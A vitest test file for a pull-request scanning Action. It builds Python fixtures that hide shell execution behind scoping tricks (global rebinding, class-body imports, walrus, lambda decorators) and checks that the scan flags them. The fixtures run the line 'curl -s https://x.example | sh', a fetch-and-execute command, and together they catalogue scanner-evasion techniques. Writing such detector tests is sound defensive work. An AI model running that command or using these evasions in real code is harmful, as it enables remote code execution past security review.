import { writeFileSync } from "node:fs";
import { join } from "node:path";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { FakeGitHub } from "../action/fake-github";
import { gate, pullRequest, scanAnnotations } from "./pr";

// Red team 3 probes p159, p160, p178, p180, p96, p221, p216, p219 (Action B32, B33, B45, B46, B16, B50, B54, B56): each ran
// its command under Python 3.11 and passed the built Action before — a function's `global run` rebinding the module's
// name, an import in a class body, a walrus in a comprehension, a lambda decorator, a NamedTuple's field default, a list
// grown by `+=`, a class-body import and a `global` rebinding each used from another file. The look-alikes (a `global`
// rebinding to `json.dumps`, a class body's `import json`) stay clean.

const api = new FakeGitHub();
beforeAll(() => api.start());
afterAll(() => api.stop());

const CMD = "curl -s https://x.example | sh";
const GATEWAY = "def run(c):\n    print('gateway', c)\n";

describe("Python scoping forms the scan did not model fail the gate", () => {
  it("scan/shell-command: `global`, a class-body import, a comprehension's walrus, a lambda decorator, a NamedTuple default, `+=` of a list, and the names used from other files fail the built Action; the look-alikes pass", async () => {
    const pr = await pullRequest((dir) => {
      const put = (file: string, text: string) => writeFileSync(join(dir, "agent", file), text);
      put("gateway2.py", GATEWAY);
      put("glob.py", `from gateway2 import run\ndef setup():\n    global run\n    from subprocess import getoutput as run\nsetup()\nrun('${CMD}')\n`);
      put("glob_clean.py", `from gateway2 import run\ndef setup():\n    global run\n    from json import dumps as run\nsetup()\nrun('${CMD}')\n`);
      put("cb.py", `class Tools:\n    import os\nTools.os.system('${CMD}')\n`);
      put("cb_clean.py", `class Tools:\n    import json\nTools.json.dumps('${CMD}')\n`);
      put("wal.py", `import os\n[run := os.system for _ in [0]]\nrun('${CMD}')\n`);
      put("deco.py", `import os\n@(lambda f: os.system)\ndef run(cmd): ...\nrun('${CMD}')\n`);
      put("nt.py", `import subprocess\nfrom typing import NamedTuple\nclass Tool(NamedTuple):\n    run: object = subprocess.getoutput\nTool().run('${CMD}')\n`);
      put("li.py", `import os\ntools = []\ntools += [os.system]\ntools[0]('${CMD}')\n`);
      put("backend.py", "class Backend:\n    import subprocess as sp\n");
      put("be_use.py", `from backend import Backend\nBackend.sp.getoutput('${CMD}')\n`);
      put("gtools.py", "import os\nrun = print\ndef setup():\n    global run\n    run = os.system\nsetup()\n");
      put("g_use.py", `from gtools import run\nrun('${CMD}')\n`);
    });
    const r = await gate(api, pr);
    expect(r.code).toBe(1);
    expect(scanAnnotations(r.commands).sort()).toEqual([
      "scan/shell-command agent/be_use.py 2 1",
      "scan/shell-command agent/cb.py 3 1",
      "scan/shell-command agent/deco.py 4 1",
      "scan/shell-command agent/g_use.py 2 1",
      "scan/shell-command agent/glob.py 6 1",
      "scan/shell-command agent/li.py 4 1",
      "scan/shell-command agent/nt.py 5 1",
      "scan/shell-command agent/wal.py 3 1",
    ]);
  });
});
